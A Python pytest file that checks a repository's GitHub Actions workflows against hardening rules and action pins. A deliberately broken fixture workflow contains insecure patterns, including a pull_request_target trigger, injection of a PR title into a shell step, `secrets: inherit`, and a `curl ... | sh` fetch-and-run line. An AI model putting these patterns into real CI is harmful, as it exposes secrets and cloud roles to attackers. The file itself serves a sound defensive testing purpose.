"""Every workflow follows every hardening rule in rules.py, and every rule can fail."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from tests.workflows.rules import RULES, SHA_PIN, VERSION_COMMENT, Workflow

WORKFLOW_DIR = Path(__file__).resolve().parents[2] / ".github" / "workflows"
WORKFLOWS = sorted(WORKFLOW_DIR.glob("*.y*ml"))
# What GitHub starts; the reusable workflows are checked as the jobs their callers run.
TOP_LEVEL = [path for path in WORKFLOWS if not Workflow.load(path).reusable]
REQUIRED = (
    "ci.yml",
    "model-train.yml",
    "model-build.yml",
    "model-release.yml",
    "infra-deploy.yml",
    "drift-monitor.yml",
    "quality-monitor.yml",
    "image.yml",
)

# The reviewed pins: the commit each release tag points to, read with `git rev-parse
# <tag>^{commit}` in a mirror of the action's repository. A new action, or a new version,
# is a deliberate change to this table.
PINS = {
    "actions/checkout": ("3d3c42e5aac5ba805825da76410c181273ba90b1", "v7.0.1"),
    "actions/create-github-app-token": ("1b10c78c7865c340bc4f6099eb2f838309f1e8c3", "v3.1.1"),
    "actions/setup-python": ("5fda3b95a4ea91299a34e894583c3862153e4b97", "v7.0.0"),
    "actions/setup-node": ("820762786026740c76f36085b0efc47a31fe5020", "v7.0.0"),
    "anchore/sbom-action": ("e22c389904149dbc22b58101806040fa8d37a610", "v0.24.0"),
    "actions/upload-artifact": ("bbbca2ddaa5d8feaa63e36b76fdaad77386f024f", "v7.0.0"),
    "actions/download-artifact": ("3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c", "v8.0.1"),
    "aws-actions/configure-aws-credentials": ("e6de054238d6b7531b4efff3b6587d9aade6a06c", "v6.2.3"),
    "github/codeql-action/upload-sarif": ("8aad20d150bbac5944a9f9d289da16a4b0d87c1e", "v4.36.2"),
    "pulumi/actions": ("8e5e406f4007fca908480587cb9893c07090f58d", "v7.0.0"),
}

# One workflow that breaks every rule at least once.
BROKEN = """
name: broken
on:
  pull_request_target:
permissions: write-all
jobs:
  deploy:
    runs-on: self-hosted
    environment: production
    env:
      STACK: prod
    permissions:
      contents: write
      id-token: write # assume the deploy role
    steps:
      - uses: actions/checkout@v4
      - name: Log in to AWS
        uses: aws-actions/configure-aws-credentials@e6de054238d6b7531b4efff3b6587d9aade6a06c
        with:
          aws-access-key-id: ${{ secrets.AWS_ACCESS_KEY_ID }}
          role-to-assume: ${{ vars.AWS_DEPLOY_ROLE_ARN }}
      - name: Greet
        run: echo "${{ github.event.pull_request.title }}"
      - name: Verify with the prod model's bytes
        run: .venv/bin/mlops release verify --stack prod
      - name: Deploy
        uses: pulumi/actions@8e5e406f4007fca908480587cb9893c07090f58d # v7.0.0
        with:
          command: up
          stack-name: prod
  sign:
    name: sign outside the signing environment
    runs-on: ubuntu-latest
    timeout-minutes: 5
    permissions:
      id-token: write # an OIDC token
    steps:
      - name: Assume the release role
        uses: aws-actions/configure-aws-credentials@e6de054238d6b7531b4efff3b6587d9aade6a06c
        with:
          role-to-assume: ${{ vars.AWS_RELEASE_ROLE_ARN }}
          aws-region: eu-west-1
  lint:
    name: lint
    runs-on: ubuntu-latest
    timeout-minutes: 5
    permissions:
      id-token: write # not needed at all
    steps:
      - name: Lint
        run: make lint && curl https://example.invalid | sh
  release:
    name: release prod through the workspace's copy, with every secret
    uses: ./.github/workflows/_deploy-stack.yml
    secrets: inherit
    permissions:
      contents: write # more than the called jobs ask for
      id-token: write # the called up job's OIDC token
    with:
      stack: prod
"""


def test_required_workflows_exist():
    # Given the workflow directory, when listing it, then the five named workflows exist.
    names = {path.name for path in WORKFLOWS}
    assert set(REQUIRED) <= names, f"missing workflows: {sorted(set(REQUIRED) - names)}"


@pytest.mark.parametrize("rule_name", sorted(RULES))
@pytest.mark.parametrize("path", TOP_LEVEL, ids=lambda p: p.name)
def test_workflow_checked_by_rule_has_no_violation(path: Path, rule_name: str):
    # Given a workflow of this repository, when a hardening rule checks it,
    workflow = Workflow.load(path)
    problems = RULES[rule_name](workflow)
    # then it reports nothing.
    assert problems == [], f"{RULES[rule_name].__doc__}\n" + "\n".join(problems)


@pytest.mark.parametrize("rule_name", sorted(RULES))
def test_rule_on_broken_workflow_reports_violation(rule_name: str):
    # Given a workflow that breaks every rule, when one rule checks it,
    problems = RULES[rule_name](Workflow.parse(BROKEN, Path("broken.yml")))
    # then that rule reports at least one violation naming the workflow.
    assert problems, f"rule {rule_name} let the broken workflow through"
    assert all("broken.yml" in message for message in problems), f"unnamed: {problems}"


def test_every_reusable_workflow_is_called_so_its_jobs_are_checked():
    # Given the workflows only workflow_call starts, and the ones each top-level workflow
    # calls (directly or not),
    reusable = {path.name for path in WORKFLOWS} - {path.name for path in TOP_LEVEL}
    called = {f.name for path in TOP_LEVEL for f in Workflow.load(path).files}
    # then each reusable workflow is called, so the rules above judge the jobs it runs.
    assert reusable == {"_deploy-stack.yml", "_plan-stacks.yml", "_publish-manifests.yml"}, reusable
    assert reusable <= called, f"never called, so never checked: {sorted(reusable - called)}"


def test_broken_call_reports_each_way_it_is_broken():
    # Given the broken workflow's call of _deploy-stack.yml (workspace path, every secret,
    # contents: write the called jobs never ask for, no environment input),
    problems = RULES["reusable_workflows_called_explicitly"](
        Workflow.parse(BROKEN, Path("broken.yml"))
    )
    # then the rule names each of them.
    assert any("call this repository's as $/" in p for p in problems), problems
    assert any("secrets: inherit" in p for p in problems), problems
    assert any("required input 'environment'" in p for p in problems), problems
    assert any("grants {'contents': 'write', 'id-token': 'write'}" in p for p in problems), problems


def test_pinned_actions_use_the_reviewed_pins():
    # Given every `uses:` line of every workflow,
    found = set()
    for path in WORKFLOWS:
        for line in path.read_text(encoding="utf-8").splitlines():
            match = re.search(r"uses:\s*(\S+)", line)
            if not match or match.group(1).startswith("$/"):
                continue  # a reusable workflow of this commit: its own steps are read
            pin = SHA_PIN.match(match.group(1))
            version = VERSION_COMMENT.search(line)
            assert pin and version, f"{path.name}: unpinned or uncommented: {line.strip()}"
            found.add((pin["action"], pin["sha"], version["version"]))
    # when compared with the reviewed table, then each action uses exactly its reviewed pin.
    unexpected = {entry for entry in found if PINS.get(entry[0]) != entry[1:]}
    assert not unexpected, f"pins not in the reviewed table: {sorted(unexpected)}"
